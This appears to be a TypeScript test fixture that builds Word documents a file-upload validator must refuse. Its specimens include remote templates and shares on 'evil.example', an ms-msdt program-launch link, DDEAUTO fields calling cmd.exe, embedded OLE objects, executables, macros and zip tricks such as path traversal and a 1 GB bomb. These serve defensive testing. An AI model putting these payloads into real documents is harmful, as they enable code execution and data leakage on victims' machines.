import { fileMessage } from "@kdl/schemas/forms/form-messages";
import { filler } from "@kdl/schemas/testing/filler";
import type { ZipFile } from "@kdl/schemas/testing/zip-archive";
import {
  contentTypes,
  docx,
  docxOf,
  docxWith,
  part,
  relationship,
  relationships,
} from "./docx-builder.ts";
import { specimen } from "./specimen.ts";

const { damaged, macros, objects, outside } = fileMessage;
const MIB = 1024 * 1024;
const file = specimen("cv.docx");
const text = { name: "word/extra.xml", data: "<a>Hello, hello, hello</a>", isPacked: true };
const field = (...instructions: string[]) =>
  '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
  instructions.map((word) => `<w:r><w:instrText>${word}</w:instrText></w:r>`).join("");
const template = (target: string) => () => docxWith(relationship("attachedTemplate", target));
const link = (target: string) => () => docxWith(relationship("hyperlink", target));
const rels = (data: string | Uint8Array) => () =>
  docx([part("word/_rels/document.xml.rels", data)]);
const types = (type: string) => () =>
  docx([contentTypes(`<Override PartName="/word/x.bin" ContentType="application/${type}"/>`)]);
const other =
  (...files: ZipFile[]) =>
  () =>
    docx(files);

const loading = [
  file("a template from a web server", outside, template("https://evil.example/a.dotm")),
  file("a template from a share", outside, template("\\\\evil.example\\share\\a.dotm")),
  file("a template from a share as address", outside, template("file://evil.example/share/a.dotm")),
  file(
    "a template from a share in disguise",
    outside,
    template("file:///%5C%5Cevil.example/a.dotm"),
  ),
  file("a template that is one by its prefix only", outside, () =>
    docx([
      part(
        "word/_rels/settings.xml.rels",
        '<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships">' +
          '<p:Relationship Id="r" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="http://evil.example/a" TargetMode="&#69;xternal"/></p:Relationships>',
      ),
    ]),
  ),
  file("a picture from a web server", outside, () =>
    docxWith(relationship("image", "https://evil.example/seen.png")),
  ),
  file("a frame", outside, () => docxWith(relationship("frame", "https://evil.example/"))),
  file("a part of the text from elsewhere", outside, () =>
    docxWith(relationship("subDocument", "https://evil.example/a.docx")),
  ),
  file("a link that starts a program", outside, link("ms-msdt:/id PCWDiagnostic")),
  file("a link that is a script", outside, link("javascript:alert(1)")),
  file("a link to a share", outside, link("\\\\evil.example\\share")),
  file("a field that starts a program", outside, () => docxOf(field("DDEAUTO c:\\\\cmd.exe"))),
  file("the same in pieces", outside, () => docxOf(field(" D", "DEAU", "TO cmd"))),
  file("the same in one element", outside, () => docxOf('<w:fldSimple w:instr=" dde cmd "/>')),
];

const active = [
  file("an OLE object", objects, other(part("word/embeddings/oleObject1.bin", filler(600)))),
  file("a program", objects, other(part("word/embeddings/setup.exe", "MZ"))),
  file("a script among the pictures", objects, other(part("word/media/a.vbs", "x"))),
  file("a control", objects, other(part("word/activeX/activeX1.xml", "<ocx/>"))),
  file("a document with macros in it", objects, other(part("word/embeddings/a.docm", "x"))),
  file("an OLE object under another name", objects, () =>
    docxWith(relationship("oleObject", "media/image1.png", "Internal")),
  ),
  file("a control by its type only", objects, types("vnd.ms-office.activeX+xml")),
  file("macros", macros, other(part("word/vbaProject.bin", "x"))),
  file("macros by their type only", macros, types("vnd.ms-office.vbaProject")),
  file("macros under another name", macros, () =>
    docxWith(relationship("vbaProject", "media/a.bin", "Internal")),
  ),
  file(
    "the type of documents with macros",
    macros,
    types("vnd.ms-word.document.macroEnabled.main+xml"),
  ),
];

const lying = [
  file("a file larger than it says", damaged, other({ ...text, unpackedBytes: 3 })),
  file("a file smaller than it says", damaged, other({ ...text, unpackedBytes: 3_000 })),
  file("a header that says another size", damaged, other({ ...text, localUnpackedBytes: 3 })),
  file("another checksum", damaged, other({ ...text, crc: 7 })),
  file("bytes hidden behind a file", damaged, other({ ...text, hidden: "MZ hidden" })),
  file("a file that becomes 1 GB", damaged, () =>
    docx([{ name: "word/a.xml", method: 8, unpackedBytes: 1024 * MIB }]),
  ),
  file("two names for one file", damaged, other({ name: "word/b.xml", offset: 0 })),
  file("a path upwards", damaged, other({ name: "word/../../a.xml" })),
  file("relationships with a document type", damaged, rels(`<!DOCTYPE r [<!ENTITY a "b">]><r/>`)),
  file("relationships in UTF-16", damaged, rels(Buffer.from(relationships(""), "utf16le"))),
];

/** Word documents that are refused. */
export const docxRefused = [...loading, ...active, ...lying];
